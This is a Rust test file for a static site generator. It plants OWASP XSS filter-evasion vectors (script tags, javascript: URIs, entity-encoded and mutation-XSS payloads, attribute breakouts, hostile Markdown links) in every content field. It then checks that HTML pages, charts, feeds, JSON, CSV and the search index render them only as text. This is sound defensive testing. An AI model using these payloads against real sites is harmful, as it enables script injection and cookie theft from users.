//! Hostile content: the OWASP XSS filter-evasion vectors in every field an editor or a
//! site's owner writes (bodies, titles, summaries, tags, sources and their URLs,
//! indicator notes, region, theme and indicator names, programs' fields, site.toml),
//! then every surface of the output checked: HTML pages with their inline SVG charts,
//! the Atom feeds, the sitemap, the JSON and CSV exports and the search index.
//! Nothing may become markup or script; the editors' words stay, as text.

mod common;

use std::collections::BTreeSet;
use std::io::Read;

use common::html::{decode_entities, is_dangerous_url, script_risks};
use common::{TestSite, snapshot};

/// Filter-evasion vectors of the OWASP XSS Filter Evasion Cheat Sheet, with the
/// mutation-XSS and attribute-breaking classics. Each holds a letter or digit, so that
/// it also makes a tag.
const VECTORS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<iframe src=https://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(2)\">x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<xss style=\"behavior: url(xss.htc);\">",
    // A chart cuts a long label and shows it whole in a <title>: markup past the cut.
    "A name long enough for a chart to cut it <img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "{{ 7*7 }} {% raw %} ${alert(1)}",
];

/// Markdown's own ways to a link or an image, for bodies.
const MARKDOWN_VECTORS: &str = r#"
[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1))
[d](java&#x09;script:alert(1)) [e](%20javascript:alert(1)) <javascript:alert(1)>
![f](javascript:alert(1)) [g](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[h](vbscript:msgbox(1)) [i][ref] ![j](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)

[ref]: javascript:alert(1)

# A heading {#" onmouseover="alert(1)}

Footnote[^"><script>alert(1)</script>].

[^"><script>alert(1)</script>]: The note.

| <img src=x onerror=alert(1)> | b |
|:--|--:|
| [x](javascript:alert(1)) | <svg onload=alert(1)> |
"#;

/// Web addresses that pass the http(s) check but carry markup and quotes.
const HOSTILE_URLS: &[&str] = &[
    "https://example.org/\"><script>alert(1)</script>",
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/#\" onfocus=\"alert(1)\" autofocus x=\"",
    "http://example.org/<img src=x onerror=alert(1)>",
];

const BASE: &str = "https://example.org/";

fn toml(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

fn list(items: &[&str]) -> String {
    format!(
        "[{}]",
        items.iter().map(|i| toml(i)).collect::<Vec<_>>().join(", ")
    )
}

fn vector(i: usize) -> &'static str {
    VECTORS[i % VECTORS.len()]
}

/// `text`, then a way out of a quoted attribute: site.toml's strings are printed in
/// attributes (`<meta content="…">`, `<link title="…">`) as well as in text.
fn out_of_quotes(text: &str) -> String {
    format!("{text} \" onmouseover=\"alert(1)\" x=\"")
}

fn body() -> String {
    format!("{MARKDOWN_VECTORS}\n\n{}\n", VECTORS.join("\n\n"))
}

/// A site where every field carries a vector: a case per vector (in its own region and
/// theme, named with vectors too), a program, a page and site.toml.
fn hostile_site() -> TestSite {
    let site = TestSite::new();
    site.write(
        "site.toml",
        &format!(
            "title = {}\nbase_url = {}\ndescription = {}\n[extra]\nnote = {}\n",
            toml(&out_of_quotes(vector(0))),
            toml(BASE),
            toml(&out_of_quotes(vector(1))),
            toml(vector(2)),
        ),
    );
    let mut regions = common::REGIONS.to_string();
    let mut themes = common::THEMES.to_string();
    for i in 0..VECTORS.len() {
        regions.push_str(&format!(
            "[zhejiang.r{i}]\nname = {}\nlevel = {}\nalt_names = [{}]\n",
            toml(vector(i)),
            toml(vector(i + 1)),
            toml(vector(i + 2)),
        ));
        themes.push_str(&format!(
            "[t{i}]\nlabel = {}\ndescription = {}\n",
            toml(vector(i)),
            toml(vector(i + 3)),
        ));
    }
    site.write("content/regions.toml", &regions);
    site.write("content/themes.toml", &themes);
    site.write(
        "content/indicators.toml",
        &format!(
            "{}[hostile-count]\nlabel = {}\nunit = \"households\"\naliases = [\"household\"]\naggregate = \"sum\"\ndescription = {}\n",
            common::INDICATORS.replace(
                "label = \"Average operating income per village\"",
                &format!("label = {}\ndescription = {}", toml(vector(5)), toml(vector(6))),
            ),
            toml(vector(7)),
            toml(vector(8)),
        ),
    );
    for i in 0..VECTORS.len() {
        let v = vector(i);
        site.write(
            &format!("content/cases/h{i}.md"),
            &format!(
                r#"+++
title = {v}
date = 2023-{month:02}-01
region = "zhejiang/r{i}"
themes = ["t{i}"]
summary = {summary}
recognition = {recognition}
tags = {tags}

[extra]
note = {v}

[[sources]]
title = {v}
publisher = {publisher}
url = {url}
note = {note}

[[indicators]]
key = "village-income-avg"
value = "{i}.5 million yuan"
period = 2023
note = {v}

[[indicators]]
key = "village-income-avg"
value = "<= {i} million yuan"
period = 2022
kind = "target"
note = {note}

[[indicators]]
key = "hostile-count"
value = "{count} households"
period = 2023
+++
{body}"#,
                v = toml(v),
                month = i % 12 + 1,
                summary = toml(vector(i + 1)),
                recognition = toml(vector(i + 2)),
                tags = list(&[v, vector(i + 3)]),
                publisher = toml(vector(i + 4)),
                url = toml(HOSTILE_URLS[i % HOSTILE_URLS.len()]),
                note = toml(vector(i + 5)),
                count = i + 1,
                body = if i == 0 { body() } else { format!("{v}\n") },
            ),
        );
    }
    site.write(
        "content/programs/hostile.md",
        &format!(
            r#"+++
title = {t}
institution = {a}
partners = {partners}
kind = "fund"
region = "zhejiang/r3"
themes = ["t3"]
summary = {b}
start = 2022
commitment = "nearly 100 million yuan"
eligibility = {c}
contact = {d}
apply_url = {url}
tags = {partners}

[[milestones]]
date = 2023
title = {e}
amount = "50 million yuan"
+++
{body}"#,
            t = toml(vector(10)),
            a = toml(vector(11)),
            partners = list(&[vector(12), vector(13)]),
            b = toml(vector(14)),
            c = toml(vector(15)),
            d = toml(vector(16)),
            url = toml(HOSTILE_URLS[0]),
            e = toml(vector(17)),
            body = body(),
        ),
    );
    site.write(
        "content/pages/hostile.md",
        &format!(
            "+++\ntitle = {}\nsummary = {}\n+++\n{}",
            toml(vector(20)),
            toml(vector(21)),
            body()
        ),
    );
    site.build();
    site
}

fn text_files(site: &TestSite, extension: &str) -> Vec<(String, String)> {
    snapshot(&site.path("public"))
        .into_iter()
        .filter(|(path, _)| path.ends_with(extension))
        .map(|(path, bytes)| (path, String::from_utf8(bytes).unwrap()))
        .collect()
}

#[test]
fn html_pages_and_their_charts_run_no_script_and_keep_the_words() {
    let site = hostile_site();
    let search_js = format!("{BASE}search.js");
    let pages = text_files(&site, ".html");
    assert!(pages.len() > 100, "{} pages", pages.len());
    let mut risks = Vec::new();
    for (path, html) in &pages {
        for risk in script_risks(html, &[&search_js]) {
            risks.push(format!("{path}: {risk}"));
        }
    }
    assert!(risks.is_empty(), "{}", risks.join("\n"));

    // The words are kept, escaped: each case page shows its vector as text.
    for (i, v) in VECTORS.iter().enumerate() {
        let page = site.read(&format!("public/cases/h{i}/index.html"));
        assert!(
            decode_entities(&page).contains(v),
            "the title of h{i} is not on its page as text"
        );
    }
    // Region names are chart labels: the charts are drawn, with the names as text.
    let indicator = site.read("public/indicators/village-income-avg/index.html");
    assert!(indicator.matches("<svg").count() >= 2, "no charts drawn");
    let svg = &indicator[indicator.find("<svg").unwrap()..];
    assert!(
        decode_entities(svg).contains("<svg/onload=alert('XSS')>"),
        "a region name is not a chart label"
    );
    // A cut chart label is shown whole, as text.
    assert!(
        pages.iter().any(|(_, html)| html.contains(
            "<title>A name long enough for a chart to cut it &lt;img src=x onerror=alert(1)&gt;</title>"
        )),
        "no chart shows the whole of a cut label"
    );
    // A source URL keeps its address but cannot break out of its attribute.
    assert!(
        site.read("public/cases/h0/index.html")
            .contains("https://example.org/&quot;&gt;&lt;script&gt;")
    );
}

#[test]
fn feeds_and_the_sitemap_are_well_formed_and_hold_text() {
    let site = hostile_site();
    let feeds = text_files(&site, ".xml");
    assert!(feeds.iter().any(|(p, _)| p == "feed.xml"), "no feed");
    let mut titles = BTreeSet::new();
    for (path, xml) in &feeds {
        let doc = roxmltree::Document::parse(xml).unwrap_or_else(|e| panic!("{path}: {e}"));
        for node in doc.descendants().filter(|n| n.is_element()) {
            let name = node.tag_name().name();
            assert!(
                !["script", "iframe", "object", "embed", "svg"].contains(&name),
                "{path}: <{name}>"
            );
            assert!(
                node.tag_name().namespace() != Some("http://www.w3.org/1999/xhtml"),
                "{path}: XHTML content"
            );
            for attribute in node.attributes() {
                assert!(
                    !attribute.name().starts_with("on"),
                    "{path}: {}",
                    attribute.name()
                );
                if matches!(attribute.name(), "href" | "src" | "uri") {
                    assert!(attribute.value().starts_with(BASE), "{path}: {attribute:?}");
                }
            }
            // Content marked as HTML is HTML once its XML escaping is read.
            if matches!(node.attribute("type"), Some("html" | "xhtml")) {
                let html = node.text().unwrap_or_default();
                assert!(script_risks(html, &[]).is_empty(), "{path}: {html}");
            }
            if name == "title" {
                titles.insert(node.text().unwrap_or_default().to_string());
            }
            if name == "loc" {
                assert!(node.text().unwrap().starts_with(BASE), "{path}");
            }
        }
    }
    // The hostile titles come back exactly: escaped once, not dropped or mangled.
    for v in &VECTORS[..10] {
        assert!(titles.contains(*v), "{v:?} is not a feed title");
    }
}

#[test]
fn open_data_keeps_the_words_as_data() {
    let site = hostile_site();
    let mut strings = BTreeSet::new();
    for (path, json) in text_files(&site, ".json") {
        if path.starts_with("pagefind/") {
            continue;
        }
        // Not even as raw text: a page that inlines the data in a <script> would end
        // at a `</script>` in a string.
        assert!(
            !json.contains(['<', '>', '&']),
            "{path}: < > or & not written as \\u escapes"
        );
        let value: serde_json::Value =
            serde_json::from_str(&json).unwrap_or_else(|e| panic!("{path}: {e}"));
        let mut stack = vec![(String::new(), &value)];
        while let Some((key, value)) = stack.pop() {
            match value {
                serde_json::Value::Object(map) => {
                    stack.extend(map.iter().map(|(k, v)| (k.clone(), v)));
                }
                serde_json::Value::Array(items) => {
                    stack.extend(items.iter().map(|v| (key.clone(), v)));
                }
                serde_json::Value::String(s) => {
                    if key.ends_with("url") {
                        assert!(
                            s.starts_with("https://") || s.starts_with("http://"),
                            "{path}: {key} = {s}"
                        );
                        assert!(!is_dangerous_url(s), "{path}: {key} = {s}");
                    }
                    strings.insert(s.clone());
                }
                _ => {}
            }
        }
    }
    for v in VECTORS {
        assert!(
            strings.contains(*v),
            "{v:?} is not in the JSON as it was written"
        );
    }

    let csv = site.read("public/data/indicators.csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let width = reader.headers().unwrap().len();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert!(rows.len() >= 3 * VECTORS.len(), "{} rows", rows.len());
    for row in &rows {
        assert_eq!(row.len(), width, "{row:?}");
        for cell in row {
            // A spreadsheet runs a cell that starts with = + - @ as a formula.
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "{cell:?} would run as a formula");
        }
    }
}

#[test]
fn the_search_index_holds_text_and_the_search_page_shows_it_as_text() {
    let site = hostile_site();
    let mut contents = String::new();
    let mut urls = Vec::new();
    for (path, bytes) in snapshot(&site.path("public/pagefind")) {
        if !path.ends_with(".pf_fragment") {
            continue;
        }
        let mut json = String::new();
        flate2::read::GzDecoder::new(&bytes[..])
            .read_to_string(&mut json)
            .unwrap();
        let json = json.strip_prefix("pagefind_dcd").unwrap_or(&json);
        let fragment: serde_json::Value = serde_json::from_str(json).unwrap();
        let url = fragment["url"].as_str().unwrap().to_string();
        assert!(url.starts_with('/') && !url.starts_with("//"), "{url}");
        assert!(!is_dangerous_url(&url), "{url}");
        contents.push_str(fragment["content"].as_str().unwrap());
        urls.push(url);
    }
    assert!(urls.contains(&"/cases/h0/".to_string()), "{urls:?}");
    // The index holds the words as text, which the search page must show as text.
    assert!(contents.contains("<script>alert('XSS')</script>"));
    let script = site.read("public/search.js");
    for sink in [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "new Function",
        "setAttribute(\"on",
        "createContextualFragment",
    ] {
        assert!(!script.contains(sink), "search.js uses {sink}");
    }
}

#[test]
fn the_checks_catch_what_they_must() {
    // Every vector, raw in a page's text or in an attribute, is caught: the checks
    // above can fail. Two are harmless raw: a backtick is no quote in HTML, so the
    // first one's `src` is a relative URL; the last one is template syntax.
    let harmless = [VECTORS[5], VECTORS[VECTORS.len() - 1]];
    let mut missed = Vec::new();
    for v in VECTORS.iter().filter(|v| !harmless.contains(v)) {
        let text = script_risks(&format!("<p>{v}</p>"), &[]);
        let attribute = script_risks(&format!("<a title=\"{v}\">x</a>"), &[]);
        if text.is_empty() && attribute.is_empty() {
            missed.push(*v);
        }
    }
    assert!(missed.is_empty(), "not caught: {missed:#?}");
    assert_eq!(
        decode_entities("&#106;&#x61;&#0000118a&colon; &amp;lt; &unknown;"),
        "java: &lt; &unknown;"
    );
    for url in [
        "JaVaScRiPt:alert(1)",
        " &#14; javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "java\nscript:x",
        "data:text/html,x",
    ] {
        assert!(is_dangerous_url(url), "{url}");
    }
    for url in ["https://example.org/a:b", "/cases/x/", "#fn-1", "?q=a:b"] {
        assert!(!is_dangerous_url(url), "{url}");
    }
    assert!(script_risks("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", &[]).is_empty());
}
